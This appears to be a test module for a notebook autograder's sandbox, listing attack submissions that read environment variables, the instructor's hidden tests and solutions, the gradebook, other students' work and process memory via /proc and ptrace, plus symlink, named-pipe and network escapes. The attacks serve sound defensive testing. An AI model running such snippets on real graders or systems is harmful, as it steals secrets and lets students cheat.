"""Reading what is none of a student's business: hidden tests, solutions, the gradebook, the environment, other work."""

import os
from collections.abc import Mapping
from pathlib import Path

from tests.attacks.attack import GOTCHA, Attack, code
from tests.attacks.course import NOTEBOOK, UNIT

FAMILY = "reading what is secret"


def _printed(source: str) -> tuple[tuple[str, str], ...]:
    return (("end", code(source)),)


def _linked(target: str, name: str):
    def mess(folder: Path, places: Mapping[str, str]) -> None:
        (folder / name).symlink_to(places[target])

    return mess


def _notebook_is_link(folder: Path, places: Mapping[str, str]) -> None:
    (folder / f"{NOTEBOOK}.ipynb").unlink()
    (folder / f"{NOTEBOOK}.ipynb").symlink_to(f"../../../source/{UNIT}/{NOTEBOOK}.ipynb")


def _submission_is_link(folder: Path, places: Mapping[str, str]) -> None:
    for file in folder.iterdir():
        file.unlink()
    folder.rmdir()
    folder.symlink_to(f"../../source/{UNIT}")


def _folder_is_link(folder: Path, places: Mapping[str, str]) -> None:
    (folder / "data").symlink_to(places["COURSE"])


def _fifo(folder: Path, places: Mapping[str, str]) -> None:
    (folder / f"{NOTEBOOK}.ipynb").unlink()
    os.mkfifo(folder / f"{NOTEBOOK}.ipynb")
    os.mkfifo(folder / "data.txt")


_READ = """
import pathlib

for name in {names}:
    try:
        print(pathlib.Path(name).read_text())
    except OSError as error:
        print(type(error).__name__)
"""

ATTACKS = [
    Attack(
        name="environment",
        tries="Prints the environment, its own and that of every process that it can see.",
        stopped_by=("sandbox",),
        extra=_printed("""
        import os
        import pathlib

        print(dict(os.environ))
        for file in pathlib.Path("/proc").glob("[0-9]*/environ"):
            try:
                print(file.read_bytes().decode(errors="replace").split("\\0"))
            except OSError:
                pass
        """),
    ),
    Attack(
        name="file-beside-the-course",
        tries="Reads a file of the teacher's whose path it knows, from Python and from a shell.",
        stopped_by=("sandbox",),
        extra=_printed(_READ.format(names='["@SECRET_FILE@"]') + "\nget_ipython().system('cat @SECRET_FILE@')"),
    ),
    Attack(
        name="source-notebook",
        tries="Reads the instructor's notebook with the hidden tests.",
        stopped_by=("sandbox",),
        extra=_printed(_READ.format(names=f'["@COURSE@/source/{UNIT}/{NOTEBOOK}.ipynb"]')),
    ),
    Attack(
        name="solution-executed",
        tries="Executes the cells of the instructor's notebook, solutions included, as its own answer.",
        stopped_by=("sandbox",),
        extra=(
            (
                "halve",
                code(f"""
                import json
                import pathlib

                try:
                    notebook = json.loads(pathlib.Path("@COURSE@/source/{UNIT}/{NOTEBOOK}.ipynb").read_text())
                    for cell in notebook["cells"]:
                        if cell["metadata"].get("nbgrader", {{}}).get("solution") and cell["cell_type"] == "code":
                            exec("".join(cell["source"]))
                except OSError:
                    pass
                """),
            ),
        ),
    ),
    Attack(
        name="gradebook",
        tries="Reads the source of every test from the gradebook, and gives itself full points there.",
        stopped_by=("sandbox",),
        extra=_printed("""
        import pathlib
        import sqlite3

        if pathlib.Path("@COURSE@/gradebook.db").exists():
            with sqlite3.connect("file:@COURSE@/gradebook.db?mode=ro", uri=True) as gradebook:
                print(gradebook.execute("select source from source_cell").fetchall())
        """),
    ),
    Attack(
        name="search-for-notebooks",
        tries="Walks through the file system for notebooks and gradebooks and prints every one.",
        stopped_by=("sandbox",),
        extra=_printed("""
        import os
        import pathlib
        import re
        import time

        start = time.monotonic()
        for top in ["@COURSE@", ".", "..", "/tmp", "/home", "/root", "/work", "/srv", "/mnt", "/run", "/var", "/opt"]:
            for folder, folders, files in os.walk(top):
                folders[:] = [name for name in folders if not name.startswith((".", "node_modules", "site-packages"))]
                for name in files:
                    if name.endswith((".ipynb", ".db")) and "@COURSE_NAME@" in folder:
                        print(set(re.findall(rb"quokka-[0-9a-f]{10}", pathlib.Path(folder, name).read_bytes())))
                if time.monotonic() > start + 2:
                    break
        """),
    ),
    Attack(
        name="other-submissions",
        tries="Reads what the others have handed in.",
        stopped_by=("sandbox",),
        extra=_printed("""
        import pathlib

        for file in pathlib.Path("@COURSE@/submitted").glob("honest*/*/*.ipynb"):
            print(file.read_text())
        """),
    ),
    Attack(
        name="memory-of-processes",
        tries="Looks for hidden tests in the memory of every process that it can see, by /proc and by ptrace.",
        stopped_by=("sandbox",),
        extra=_printed("""
        import ctypes
        import os
        import pathlib
        import re

        libc = ctypes.CDLL(None, use_errno=True)
        parents = []
        process = os.getppid()
        while process > 1 and len(parents) < 2:  # the nursery, and the grader that started it
            parents.append(process)
            status = pathlib.Path(f"/proc/{process}/status").read_text()
            process = int(re.search(r"PPid:\\t(\\d+)", status).group(1))
        others = [int(entry.name) for entry in pathlib.Path("/proc").iterdir() if entry.name.isdigit()]
        for process in parents or others:
            try:
                maps = pathlib.Path(f"/proc/{process}/maps").read_text().splitlines()
                with open(f"/proc/{process}/mem", "rb", buffering=0) as memory:
                    for line in maps:
                        first, last = (int(address, 16) for address in line.split()[0].split("-"))
                        if "rw" in line and last - first < 1 << 26:
                            memory.seek(first)
                            print(set(re.findall(rb"quokka-[0-9a-f]{10}", memory.read(last - first))))
            except OSError as error:
                print(type(error).__name__)
            if libc.ptrace(16, process, 0, 0) == 0:  # attach, wait until it has stopped, detach
                os.waitpid(process, 0x40000000)
                libc.ptrace(17, process, 0, 0)
        """),
    ),
    Attack(
        name="link-to-a-secret",
        tries="Hands in a symbolic link to a file of the teacher's, and prints it.",
        stopped_by=("reading",),
        mess=_linked("SECRET_FILE", "data.txt"),
        extra=_printed(_READ.format(names='["data.txt"]')),
        reason="data.txt",
    ),
    Attack(
        name="link-to-the-course",
        tries="Hands in a symbolic link to the course folder, and reads through it.",
        stopped_by=("reading",),
        mess=_folder_is_link,
        extra=_printed(_READ.format(names=f'["data/source/{UNIT}/{NOTEBOOK}.ipynb", "data/../exam-key.txt"]')),
        reason="data",
    ),
    Attack(
        name="notebook-is-a-link",
        tries="Hands in a symbolic link to the instructor's notebook as its own.",
        stopped_by=("reading",),
        mess=_notebook_is_link,
        reason="link",
    ),
    Attack(
        name="submission-is-a-link",
        tries="Hands in a symbolic link to the folder of the instructor's notebook.",
        stopped_by=("reading",),
        mess=_submission_is_link,
        reason="no folder|link",
    ),
    Attack(
        name="named-pipes",
        tries="Hands in named pipes, which block whoever opens them.",
        stopped_by=("reading",),
        mess=_fifo,
        reason="no ordinary file",
    ),
    Attack(
        name="network",
        tries="Calls home over TCP, UDP and the grading machine's own sockets.",
        stopped_by=("sandbox",),
        extra=_printed(f"""
        import socket

        for family, kind, address in [
            (socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", int("@PORT@"))),
            (socket.AF_INET, socket.SOCK_STREAM, (socket.gethostname(), int("@PORT@"))),
            (socket.AF_INET, socket.SOCK_STREAM, ("1.1.1.1", 53)),
            (socket.AF_INET6, socket.SOCK_STREAM, ("::1", int("@PORT@"))),
            (socket.AF_UNIX, socket.SOCK_STREAM, "\\0@ABSTRACT@"),
            (socket.AF_UNIX, socket.SOCK_STREAM, "@SOCKET@"),
        ]:
            try:
                with socket.socket(family, kind) as caller:
                    caller.settimeout(0.2)
                    caller.connect(address)
                    {GOTCHA}
            except OSError as error:
                print(type(error).__name__)
        """),
    ),
    Attack(
        name="where-it-runs",
        tries="Prints everything that could tell where on the grading machine the course is.",
        stopped_by=("sandbox",),
        extra=_printed("""
        import os
        import pathlib
        import sys

        print(os.getcwd(), sys.path, sys.argv, sys.prefix)
        for file in pathlib.Path("/proc").glob("[0-9]*/cmdline"):
            print(file.read_bytes())
        for file in ["/proc/self/mountinfo", "/proc/self/maps", "/proc/net/unix"]:
            print(pathlib.Path(file).read_text()[:100_000])
        """),
    ),
]
